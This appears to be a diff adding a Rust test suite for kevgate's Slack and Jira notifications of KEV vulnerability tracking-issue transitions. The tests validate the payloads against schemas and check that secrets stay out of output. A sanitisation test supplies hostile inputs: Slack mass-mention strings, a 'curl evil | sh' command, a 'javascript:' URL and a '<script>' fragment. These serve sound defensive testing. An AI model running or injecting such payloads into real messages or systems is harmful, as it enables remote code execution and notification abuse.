@@ -1,0 +1,550 @@
+//! Slack and Jira notifications of tracking-issue transitions (issue 15): the payloads
+//! against Slack's Block Kit schema, Jira's OpenAPI description and the ADF schema; the real
+//! clients against loopback fakes of an incoming webhook and a Jira Cloud site.
+
+use crate::action::fake;
+use jiff::civil::date;
+use kevgate::notify::{self, Channels, jira, slack};
+use kevgate::track::state::FixedBy;
+use kevgate::track::{Class, Notifier, NotifyResult, TransitionEvent, TransitionKind};
+use serde_json::{Value, json};
+
+const BLOCK_KIT: &str = include_str!("../fixtures/slack/slack-block-kit.schema.json");
+const JIRA_API: &str = include_str!("../fixtures/jira/jira-platform-v3.subset.json");
+const ADF: &str = include_str!("../fixtures/jira/adf-full-schema.2023-08.json");
+
+/// The secrets the tests hand the clients; no output may contain them.
+pub(crate) const WEBHOOK_PATH: &str = "/services/T0001/B0001/xoxb-not-a-real-webhook-secret";
+pub(crate) const JIRA_TOKEN: &str = "ATATT-not-a-real-jira-api-token";
+
+/// Validates a webhook body: `blocks` against the Block Kit schema, `text` present.
+pub(crate) fn assert_valid_slack(body: &Value) {
+    let schema: Value = serde_json::from_str(BLOCK_KIT).expect("schema is JSON");
+    let validator = jsonschema::draft202012::new(&schema).expect("schema compiles");
+    let errors: Vec<String> = validator
+        .iter_errors(&body["blocks"])
+        .map(|e| format!("{} at {}", e, e.instance_path()))
+        .collect();
+    assert!(errors.is_empty(), "Block Kit: {errors:#?}\n{body:#}");
+    assert!(body["text"].as_str().is_some_and(|t| !t.is_empty()));
+}
+
+/// Validates a Jira request body against the OpenAPI request schema of `method template`,
+/// and every ADF document in it (`fields.description`, `body`) against the ADF schema.
+pub(crate) fn assert_valid_jira(method: &str, template: &str, body: &Value) {
+    let api: Value = serde_json::from_str(JIRA_API).expect("OpenAPI subset is JSON");
+    let mut schema = api["paths"][template][method.to_ascii_lowercase()]["requestBody"]["content"]
+        ["application/json"]["schema"]
+        .clone();
+    assert!(
+        schema.is_object(),
+        "no request schema for {method} {template}"
+    );
+    schema = json!({"allOf": [schema], "components": api["components"]});
+    let validator = jsonschema::draft7::new(&schema).expect("schema compiles");
+    let errors: Vec<String> = validator.iter_errors(body).map(|e| e.to_string()).collect();
+    assert!(errors.is_empty(), "{method} {template}: {errors:#?}");
+    let adf: Value = serde_json::from_str(ADF).expect("ADF schema is JSON");
+    let adf = jsonschema::draft4::new(&adf).expect("ADF schema compiles");
+    for doc in [&body["fields"]["description"], &body["body"]] {
+        if doc.is_null() {
+            continue;
+        }
+        let errors: Vec<String> = adf.iter_errors(doc).map(|e| e.to_string()).collect();
+        assert!(errors.is_empty(), "ADF: {errors:#?}\n{doc:#}");
+    }
+}
+
+/// A Jira answer from the OpenAPI description's example of `method template status`
+/// (leaked: the fake's answers are `'static`).
+fn jira_example(method: &str, template: &str, status: u16) -> &'static str {
+    let api: Value = serde_json::from_str(JIRA_API).expect("OpenAPI subset is JSON");
+    let example = &api["paths"][template][method.to_ascii_lowercase()]["responses"]
+        [status.to_string()]["content"]["application/json"]["example"];
+    // The description keeps some examples as JSON text.
+    let text = match example.as_str() {
+        Some(s) => s.to_owned(),
+        None => example.to_string(),
+    };
+    Box::leak(text.into_boxed_str())
+}
+
+/// A KEV transition of a tracking issue, as the sync hands it over.
+pub(crate) fn event(n: u64, kind: TransitionKind) -> TransitionEvent {
+    let (package, vuln) = match n {
+        1 => ("org.apache.logging.log4j:log4j-core", "CVE-2021-44228"),
+        _ => ("jquery", "CVE-2020-11023"),
+    };
+    TransitionEvent {
+        key: format!("pkg:maven/{package} {vuln}"),
+        transition: if kind == TransitionKind::Opened { 1 } else { 2 },
+        kind,
+        issue: n,
+        issue_url: format!("https://github.com/Codertocat/Hello-World/issues/{n}"),
+        title: format!("{vuln} in {package} — KEV, critical"),
+        class: Class::Kev,
+        package: package.to_owned(),
+        purl: format!("pkg:maven/{package}"),
+        versions: vec!["2.14.1".to_owned()],
+        vulnerability: vuln.to_owned(),
+        severity: "critical".to_owned(),
+        severity_source: Some("nvd".to_owned()),
+        kev_due: Some(date(2021, 12, 24)),
+        due: Some(date(2021, 12, 24)),
+        epss: Some(0.94358),
+        priority: "act".to_owned(),
+        fix: Some("upgrade to 2.17.1".to_owned()),
+        advisory_url: Some(format!("https://nvd.nist.gov/vuln/detail/{vuln}")),
+        runbook_url: Some("https://wiki.example.com/runbooks/kev".to_owned()),
+        fixed_by: (kind == TransitionKind::Fixed).then(|| FixedBy {
+            pr: 7,
+            author: "octocat".to_owned(),
+            commit_authors: vec!["hubot".to_owned(), "octocat".to_owned()],
+            merged_at: Some("2025-08-20T10:00:00Z".to_owned()),
+            sha: "ec26c3e57ca3a959ca5aad62de7213c562f8c821".to_owned(),
+            upgrade: Some("2.14.1 → 2.17.1".to_owned()),
+        }),
+        reason: None,
+        slack_sent: false,
+        jira_key: None,
+        jira_sent: false,
+    }
+}
+
+/// Routing: Slack and Jira for KEV findings, a digest over 5.
+fn settings() -> notify::Settings {
+    let config = kevgate::config::parse(
+        b"notify:\n  slack: [malicious, kev]\n  jira: [kev]\n  slack-digest-over: 5\n\
+          jira:\n  project: SEC\n  issue-type: Bug\n  labels: [security]\n  \
+          priority: {kev: Highest, critical: High}\n  done-transition: Done\n",
+        ".kevgate.yaml",
+    )
+    .expect("valid config");
+    config.notify
+}
+
+/// The environment of the channels: the fakes' URLs and the secrets.
+fn env(slack_url: &str, jira_url: &str) -> impl Fn(&str) -> Option<String> {
+    let (s, j) = (slack_url.to_owned(), jira_url.to_owned());
+    move |k: &str| match k {
+        "KEVGATE_SLACK_WEBHOOK" => Some(format!("{s}{WEBHOOK_PATH}")),
+        "KEVGATE_JIRA_URL" => Some(j.clone()),
+        "KEVGATE_JIRA_USER" => Some("bot@example.com".to_owned()),
+        "KEVGATE_JIRA_TOKEN" => Some(JIRA_TOKEN.to_owned()),
+        _ => None,
+    }
+}
+
+/// A fake Jira site: no issue labelled yet (so each is created as SEC-1, SEC-2, ...), the
+/// `Done` transition available, comments accepted. Answers are the OpenAPI examples.
+fn jira_site() -> fake::Fake {
+    fake::serve(|method, path, _| match (method, path) {
+        ("POST", "/rest/api/3/search/jql") => (200, r#"{"issues": [], "isLast": true}"#, vec![]),
+        ("POST", "/rest/api/3/issue") => {
+            (201, jira_example("POST", "/rest/api/3/issue", 201), vec![])
+        }
+        ("GET", p) if p.ends_with("/transitions") => (
+            200,
+            r#"{"transitions": [{"id": "11", "name": "In Progress"}, {"id": "31", "name": "Done"}]}"#,
+            vec![],
+        ),
+        ("POST", p) if p.ends_with("/transitions") => (204, "", vec![]),
+        ("POST", p) if p.ends_with("/comment") => (201, r#"{"id": "10000"}"#, vec![]),
+        _ => (404, r#"{"errorMessages": ["no such resource"]}"#, vec![]),
+    })
+}
+
+fn requests(f: &fake::Fake) -> Vec<fake::Recorded> {
+    f.requests.lock().expect("lock").clone()
+}
+
+/// No result, warning or request body carries a secret.
+fn assert_no_secret(results: &[NotifyResult]) {
+    let text = format!("{results:?}");
+    assert!(
+        !text.contains(WEBHOOK_PATH) && !text.contains("xoxb-not"),
+        "{text}"
+    );
+    assert!(!text.contains(JIRA_TOKEN), "{text}");
+}
+
+/// The Block Kit schema accepts a real Block Kit Builder message and refuses a broken one
+/// (so a pass means something).
+#[test]
+fn block_kit_schema_is_selective() {
+    let real: Value = serde_json::from_str(include_str!(
+        "../fixtures/slack/blockkit-template-demo-release.json"
+    ))
+    .expect("JSON");
+    assert_valid_slack(&json!({"text": "x", "blocks": real["blocks"]}));
+    let schema: Value = serde_json::from_str(BLOCK_KIT).expect("schema is JSON");
+    let long = "x".repeat(151);
+    let broken = json!([{"type": "header", "text": {"type": "plain_text", "text": long}}]);
+    assert!(!jsonschema::draft202012::is_valid(&schema, &broken));
+}
+
+/// Messages for each transition and the digest are valid Block Kit; hostile SBOM text is
+/// neutralised (no `<!channel>`, no live mention, no broken link), the fields and links are
+/// there, the credit names the PR and the commit authors.
+#[test]
+fn slack_messages_are_valid_block_kit() {
+    for kind in [
+        TransitionKind::Opened,
+        TransitionKind::Reopened,
+        TransitionKind::Fixed,
+    ] {
+        assert_valid_slack(&slack::message(&event(1, kind)));
+    }
+    let fixed = slack::message(&event(1, TransitionKind::Fixed)).to_string();
+    assert!(fixed.contains("Fixed by"), "{fixed}");
+    assert!(fixed.contains("#7") && fixed.contains("hubot"), "{fixed}");
+
+    let mut hostile = event(2, TransitionKind::Opened);
+    hostile.package = "<!channel> @here <@U024BE7LH> <https://evil.example|click> *pwn*".into();
+    hostile.versions = vec!["1.0\n>quote".into()];
+    hostile.fix = Some("<!everyone> & run `curl evil | sh`".into());
+    hostile.advisory_url = Some("javascript:alert(1)".into());
+    let message = slack::message(&hostile);
+    assert_valid_slack(&message);
+    let text = message.to_string();
+    for bad in [
+        "<!channel>",
+        "<!everyone>",
+        "<@U",
+        "<https://evil",
+        "@here",
+        "javascript:",
+    ] {
+        assert!(!text.contains(bad), "{bad} in {text}");
+    }
+    assert!(text.contains("&lt;!channel&gt;"), "{text}");
+    assert!(
+        text.contains("<https://github.com/Codertocat/Hello-World/issues/2|Tracking issue #2>")
+    );
+    assert!(
+        text.contains("Runbook") && text.contains("KEV due date") && text.contains("2021-12-24")
+    );
+
+    let many: Vec<TransitionEvent> = (0..60)
+        .map(|n| event(n % 3, TransitionKind::Opened))
+        .collect();
+    let refs: Vec<&TransitionEvent> = many.iter().collect();
+    let digest = slack::digest(&refs);
+    assert_valid_slack(&digest);
+    assert!(digest.to_string().contains("and 20 more"));
+}
+
+/// Jira bodies match Jira's OpenAPI description and the ADF schema, with hostile text too;
+/// the issue carries the configured labels, the label-safe key label and the priority.
+#[test]
+fn jira_bodies_are_valid() {
+    let settings = settings();
+    let cfg = settings.jira.as_ref().expect("jira configured");
+    let mut e = event(1, TransitionKind::Opened);
+    e.package = "evil\u{202e}\n<script>{\"x\":1}".into();
+    let create = jira::create_body(&e, cfg);
+    assert_valid_jira("POST", "/rest/api/3/issue", &create);
+    assert_eq!(create["fields"]["project"]["key"], "SEC");
+    assert_eq!(create["fields"]["priority"]["name"], "Highest");
+    let labels = create["fields"]["labels"].to_string();
+    assert!(
+        labels.contains("security") && labels.contains(&jira::label(&e.key)),
+        "{labels}"
+    );
+    assert!(!create.to_string().contains('\u{202e}'));
+    assert_valid_jira(
+        "POST",
+        "/rest/api/3/search/jql",
+        &jira::search_body(&e.key, cfg),
+    );
+    for kind in [TransitionKind::Fixed, TransitionKind::Reopened] {
+        assert_valid_jira(
+            "POST",
+            "/rest/api/3/issue/{issueIdOrKey}/comment",
+            &jira::comment_body(&event(1, kind)),
+        );
+    }
+    assert_valid_jira(
+        "POST",
+        "/rest/api/3/issue/{issueIdOrKey}/transitions",
+        &json!({"transition": {"id": "31"}}),
+    );
+}
+
+/// Two KEV tracking issues opened: two Slack messages and two Jira issues (each looked up by
+/// its label first); a rerun, with the state saying both were sent, sends and creates
+/// nothing; a fix sends one "fixed" message and comments and transitions its Jira issue.
+#[test]
+fn opened_rerun_fixed() {
+    let hook = fake::serve(|_, _, _| (200, "ok", vec![]));
+    let site = jira_site();
+    let (mut channels, warnings) = Channels::from_env(settings(), &env(&hook.url, &site.url));
+    assert!(warnings.is_empty(), "{warnings:?}");
+
+    let opened = [
+        event(1, TransitionKind::Opened),
+        event(2, TransitionKind::Opened),
+    ];
+    let results = channels.notify(&opened);
+    assert_no_secret(&results);
+    let slack_sent = results
+        .iter()
+        .filter(|r| matches!(r, NotifyResult::Slack { .. }))
+        .count();
+    assert_eq!(slack_sent, 2, "{results:?}");
+    let jira_keys: Vec<&str> = results
+        .iter()
+        .filter_map(|r| match r {
+            NotifyResult::Jira { issue, .. } => Some(issue.as_str()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(jira_keys.len(), 2, "{results:?}");
+    let posts = requests(&hook);
+    assert_eq!(posts.len(), 2);
+    for p in &posts {
+        assert_eq!(p.path, WEBHOOK_PATH);
+        assert_valid_slack(&p.body);
+        assert!(p.body.to_string().contains("Opened"));
+    }
+    let jira = requests(&site);
+    let creates: Vec<&fake::Recorded> = jira
+        .iter()
+        .filter(|r| r.path == "/rest/api/3/issue")
+        .collect();
+    assert_eq!(creates.len(), 2);
+    for r in &jira {
+        assert!(r.authorization.starts_with("Basic "), "{r:?}");
+        let template = if r.path.ends_with("/jql") {
+            "/rest/api/3/search/jql"
+        } else {
+            "/rest/api/3/issue"
+        };
+        assert_valid_jira(&r.method, template, &r.body);
+        assert!(!r.body.to_string().contains(JIRA_TOKEN));
+    }
+    assert_eq!(jira.len(), 4, "a search before each create: {jira:?}");
+
+    // The rerun: the state records both transitions as sent on both channels.
+    let rerun: Vec<TransitionEvent> = opened
+        .iter()
+        .map(|e| TransitionEvent {
+            slack_sent: true,
+            jira_sent: true,
+            jira_key: Some("SEC-1".into()),
+            ..e.clone()
+        })
+        .collect();
+    assert!(channels.notify(&rerun).is_empty());
+    assert_eq!(requests(&hook).len(), 2, "the rerun posts nothing");
+    assert_eq!(requests(&site).len(), 4, "the rerun asks Jira nothing");
+
+    // The fix of the first: one "fixed" message, a comment and the Done transition.
+    let mut fixed = event(1, TransitionKind::Fixed);
+    fixed.jira_key = Some("SEC-1".into());
+    let results = channels.notify(&[fixed]);
+    assert_no_secret(&results);
+    assert_eq!(results.len(), 2, "{results:?}");
+    let post = requests(&hook).pop().expect("a message");
+    assert_valid_slack(&post.body);
+    let text = post.body.to_string();
+    assert!(
+        text.contains("Fixed") && text.contains("octocat") && text.contains("#7"),
+        "{text}"
+    );
+    let jira = requests(&site);
+    let tail: Vec<(String, String)> = jira[4..]
+        .iter()
+        .map(|r| (r.method.clone(), r.path.clone()))
+        .collect();
+    assert_eq!(
+        tail,
+        [
+            ("GET".into(), "/rest/api/3/issue/SEC-1/transitions".into()),
+            ("POST".into(), "/rest/api/3/issue/SEC-1/comment".into()),
+            ("POST".into(), "/rest/api/3/issue/SEC-1/transitions".into()),
+        ]
+    );
+    assert_valid_jira(
+        "POST",
+        "/rest/api/3/issue/{issueIdOrKey}/comment",
+        &jira[5].body,
+    );
+    assert!(jira[5].body.to_string().contains("octocat"));
+    assert_eq!(jira[6].body, json!({"transition": {"id": "31"}}));
+}
+
+/// A Jira issue that already carries the label (the state was lost) is found, not duplicated.
+#[test]
+fn jira_issue_found_again_not_duplicated() {
+    let site = fake::serve(|method, path, _| match (method, path) {
+        ("POST", "/rest/api/3/search/jql") => (
+            200,
+            r#"{"issues": [{"id": "10002", "key": "SEC-42", "self": "https://acme.atlassian.net/rest/api/3/issue/10002"}], "isLast": true}"#,
+            vec![],
+        ),
+        _ => (500, "", vec![]),
+    });
+    let env = env("http://127.0.0.1:9", &site.url);
+    let env = |k: &str| {
+        if k == "KEVGATE_SLACK_WEBHOOK" {
+            None
+        } else {
+            env(k)
+        }
+    };
+    let (mut channels, _) = Channels::from_env(settings(), &env);
+    let results = channels.notify(&[event(1, TransitionKind::Opened)]);
+    assert_eq!(
+        results,
+        [NotifyResult::Jira {
+            key: event(1, TransitionKind::Opened).key,
+            transition: 1,
+            issue: "SEC-42".into()
+        }]
+    );
+    assert_eq!(requests(&site).len(), 1);
+}
+
+/// More transitions than `slack-digest-over` become one digest message.
+#[test]
+fn many_transitions_one_digest() {
+    let hook = fake::serve(|_, _, _| (200, "ok", vec![]));
+    let env = env(&hook.url, "");
+    let (mut channels, _) = Channels::from_env(settings(), &env);
+    let events: Vec<TransitionEvent> = (1..=7)
+        .map(|n| TransitionEvent {
+            issue: n,
+            transition: n as u32,
+            ..event(1, TransitionKind::Opened)
+        })
+        .collect();
+    let results = channels.notify(&events);
+    assert_eq!(
+        results.len(),
+        7,
+        "each transition is recorded as sent: {results:?}"
+    );
+    let posts = requests(&hook);
+    assert_eq!(posts.len(), 1);
+    assert_valid_slack(&posts[0].body);
+    assert!(
+        posts[0]
+            .body
+            .to_string()
+            .contains("7 tracking-issue transitions")
+    );
+}
+
+/// A 429 is retried after its `Retry-After` (1 s here), and the message then counts as sent.
+#[test]
+fn slack_429_is_retried_after_retry_after() {
+    let hook = fake::serve(|_, _, seen| match seen {
+        0 => (429, "", vec![("retry-after", "1")]),
+        _ => (200, "ok", vec![]),
+    });
+    let env = env(&hook.url, "");
+    let (mut channels, _) = Channels::from_env(settings(), &env);
+    let started = std::time::Instant::now();
+    let results = channels.notify(&[event(1, TransitionKind::Opened)]);
+    assert!(
+        matches!(results[..], [NotifyResult::Slack { .. }]),
+        "{results:?}"
+    );
+    assert_eq!(requests(&hook).len(), 2);
+    assert!(started.elapsed() >= std::time::Duration::from_millis(950));
+}
+
+/// Slack's error words are reported with a hint, as a warning without the webhook URL, and
+/// the transition stays unsent (the next run tries again).
+#[test]
+fn slack_errors_are_reported_without_the_url() {
+    for (status, word, hint) in [
+        (400, "invalid_payload", "Block Kit"),
+        (404, "no_service", "revoked"),
+    ] {
+        let body: &'static str = word;
+        let hook = fake::serve(move |_, _, _| (status, body, vec![]));
+        let env = env(&hook.url, "");
+        let (mut channels, _) = Channels::from_env(settings(), &env);
+        let results = channels.notify(&[event(1, TransitionKind::Opened)]);
+        assert_no_secret(&results);
+        let [NotifyResult::Warning(w)] = &results[..] else {
+            panic!("{results:?}")
+        };
+        assert!(
+            w.contains(word) && w.contains(hint) && w.contains(&status.to_string()),
+            "{w}"
+        );
+    }
+    // A connection failure names no URL either.
+    let env = env("http://127.0.0.1:9", "");
+    let (mut channels, _) = Channels::from_env(settings(), &env);
+    let results = channels.notify(&[event(1, TransitionKind::Opened)]);
+    assert_no_secret(&results);
+    assert!(
+        matches!(&results[..], [NotifyResult::Warning(_)]),
+        "{results:?}"
+    );
+}
+
+/// A Jira 401 is a warning with a hint and without the token; a missing done transition
+/// names the ones there are.
+#[test]
+fn jira_errors_are_reported_without_the_token() {
+    let site = fake::serve(|_, _, _| {
+        (
+            401,
+            r#"{"errorMessages": ["Client must be authenticated to access this resource."]}"#,
+            vec![],
+        )
+    });
+    let env1 = env("", &site.url);
+    let env1 = |k: &str| {
+        if k == "KEVGATE_SLACK_WEBHOOK" {
+            None
+        } else {
+            env1(k)
+        }
+    };
+    let (mut channels, _) = Channels::from_env(settings(), &env1);
+    let results = channels.notify(&[event(1, TransitionKind::Opened)]);
+    assert_no_secret(&results);
+    let [NotifyResult::Warning(w)] = &results[..] else {
+        panic!("{results:?}")
+    };
+    assert!(
+        w.contains("HTTP 401") && w.contains("KEVGATE_JIRA_TOKEN") && w.contains("authenticated"),
+        "{w}"
+    );
+
+    let site = fake::serve(|method, path, _| match (method, path) {
+        ("GET", p) if p.ends_with("/transitions") => (
+            200,
+            r#"{"transitions": [{"id": "11", "name": "Close Issue"}]}"#,
+            vec![],
+        ),
+        _ => (500, "", vec![]),
+    });
+    let env2 = env("", &site.url);
+    let env2 = |k: &str| {
+        if k == "KEVGATE_SLACK_WEBHOOK" {
+            None
+        } else {
+            env2(k)
+        }
+    };
+    let (mut channels, _) = Channels::from_env(settings(), &env2);
+    let mut fixed = event(1, TransitionKind::Fixed);
+    fixed.jira_key = Some("SEC-1".into());
+    let results = channels.notify(&[fixed]);
+    let [NotifyResult::Warning(w)] = &results[..] else {
+        panic!("{results:?}")
+    };
+    assert!(w.contains("`Done`") && w.contains("`Close Issue`"), "{w}");
+    assert_eq!(
+        requests(&site).len(),
+        1,
+        "no comment without the transition"
+    );
+}
